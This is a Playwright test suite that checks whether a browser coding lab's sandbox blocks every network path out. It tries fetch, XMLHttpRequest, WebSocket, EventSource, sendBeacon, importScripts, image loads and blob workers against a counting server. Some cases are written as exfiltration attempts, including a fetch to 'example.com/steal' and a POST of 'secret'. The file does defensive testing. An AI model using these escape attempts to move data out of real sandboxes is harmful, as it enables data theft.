/**
 * Attack suite, network: learner code trying every way out of the sandbox. A local
 * server counts every request and TCP connection it gets; it must see none. The first
 * block goes through the normal Run path (the learner sees why each attempt failed);
 * the second proves the browser barrier itself (the sandbox CSP), by running the same
 * attempts inside the sandbox frame without our runtime's friendlier stubs.
 */
import { expect, test, type Frame, type Page } from '@playwright/test';
import { expectNextRunWorks, expectRunError, handlerWith, runHandler, startCountingServer, type CountingServer } from './attack-payloads';
import { openLab } from './helpers';

test.describe.configure({ mode: 'serial' });

let page: Page;
let server: CountingServer;

test.beforeAll(async ({ browser }) => {
  server = await startCountingServer();
  page = await browser.newPage();
  await openLab(page);
});
test.afterAll(async () => {
  await page.close();
  await server.close();
});

const url = (path: string) => `http://127.0.0.1:${server.port}/${path}`;

const CASES: { name: string; body: () => string; message: RegExp }[] = [
  { name: 'fetch to an outside address', body: () => `await fetch('https://example.com/steal?k=' + ctx.signal.aborted);`, message: /Blocked: GET https:\/\/example\.com\/steal.*no network access/ },
  { name: 'fetch to a loopback address that is not a mock', body: () => `await fetch('${url('fetch')}', { method: 'POST', body: 'secret' });`, message: /Blocked: POST http:\/\/127\.0\.0\.1:\d+\/fetch/ },
  { name: 'XMLHttpRequest', body: () => `const x = new XMLHttpRequest(); x.open('GET', '${url('xhr')}', false); x.send();`, message: /XMLHttpRequest is not available in the lab: code here has no network access/ },
  { name: 'new WebSocket', body: () => `new WebSocket('ws://127.0.0.1:${server.port}/ws');`, message: /WebSocket is not available in the lab/ },
  { name: 'new EventSource', body: () => `new EventSource('${url('sse')}');`, message: /EventSource is not available in the lab/ },
  { name: 'navigator.sendBeacon', body: () => `(navigator as any).sendBeacon('${url('beacon')}', 'x');`, message: /sendBeacon is not a function/ },
  { name: 'importScripts(url)', body: () => `(self as any).importScripts('${url('script.js')}');`, message: /importScripts is not available in the lab/ },
  {
    name: 'a nested new Worker(blob) that fetches',
    body: () => `const src = "fetch('${url('nested')}')"; new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));`,
    message: /ReferenceError: Worker is not defined/,
  },
];

for (const c of CASES) {
  test(`${c.name}: refused with a message, the server sees nothing`, async () => {
    await runHandler(page, handlerWith(c.body()));
    const shown = await expectRunError(page, 'The handler threw an error', c.message);
    test.info().annotations.push({ type: 'outcome', description: `${c.name}: ${shown}` });
    await page.waitForTimeout(300); // give a request that slipped through time to arrive
    expect(server.hits).toEqual([]);
  });
}

test('the Upstream tab lists blocked requests as failed, and nothing reached the server', async () => {
  await runHandler(page, handlerWith(`for (const u of ['${url('a')}', 'https://example.com/b']) { try { await fetch(u); } catch {} }`));
  await page.getByRole('tab', { name: /^Upstream/ }).click();
  await expect(page.getByRole('list', { name: 'Upstream requests' }).getByText(/failed: Blocked/)).toHaveCount(2);
  expect(server.hits).toEqual([]);
});

/** The sandbox iframe as it is now (a kill replaces it). */
async function sandboxFrame(): Promise<Frame> {
  const handle = await page.waitForSelector('iframe[title="Code sandbox"]', { state: 'attached' });
  const frame = await handle.contentFrame();
  if (!frame) throw new Error('no sandbox frame');
  return frame;
}

test('the barrier is the browser: inside the sandbox frame and a worker it starts, every way out is refused', async () => {
  const frame = await sandboxFrame();
  const base = `http://127.0.0.1:${server.port}`;
  const report = await frame.evaluate(async (base) => {
    const out: string[] = [];
    const attempt = async (name: string, fn: () => Promise<unknown> | unknown) => {
      try {
        await fn();
        out.push(`${name}: no error`);
      } catch (e) {
        out.push(`${name}: ${(e as Error).name}`);
      }
    };
    await attempt('frame fetch', () => fetch(`${base}/frame-fetch`));
    await attempt('frame beacon', () => {
      if (navigator.sendBeacon(`${base}/frame-beacon`, 'x')) throw new Error('queued');
    });
    await attempt('frame image', () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: () => reject(new Error('image refused')), src: `${base}/frame-img` })));
    // A fresh worker from a blob: no stubs of ours, only the CSP it inherits.
    const workerSource = `
      const base = ${JSON.stringify(base)};
      const results = [];
      const attempt = async (name, fn) => { try { await fn(); results.push(name + ': no error'); } catch (e) { results.push(name + ': ' + e.name); } };
      (async () => {
        await attempt('worker fetch', () => fetch(base + '/worker-fetch'));
        await attempt('worker xhr', () => { const x = new XMLHttpRequest(); x.open('GET', base + '/worker-xhr', false); x.send(); });
        await attempt('worker importScripts', () => importScripts(base + '/worker-import.js'));
        await attempt('worker websocket', () => new Promise((res, rej) => { const w = new WebSocket(base.replace('http', 'ws') + '/ws'); w.onopen = res; w.onerror = () => rej(new Error('socket refused')); }));
        await attempt('worker eventsource', () => new Promise((res, rej) => { const s = new EventSource(base + '/sse'); s.onopen = res; s.onerror = () => { s.close(); rej(new Error('eventsource refused')); }; }));
        postMessage(results);
      })();`;
    const worker = new Worker(URL.createObjectURL(new Blob([workerSource], { type: 'text/javascript' })));
    out.push(...(await new Promise<string[]>((resolve) => (worker.onmessage = (e) => resolve(e.data)))));
    worker.terminate();
    return out;
  }, base);
  test.info().annotations.push({ type: 'barrier', description: report.join('; ') });
  for (const line of report) expect(line).not.toContain('no error');
  await page.waitForTimeout(500);
  expect(server.hits).toEqual([]);
});

test('after every network attack, a normal run still works', async () => {
  await expectNextRunWorks(page);
  expect(server.hits).toEqual([]);
});
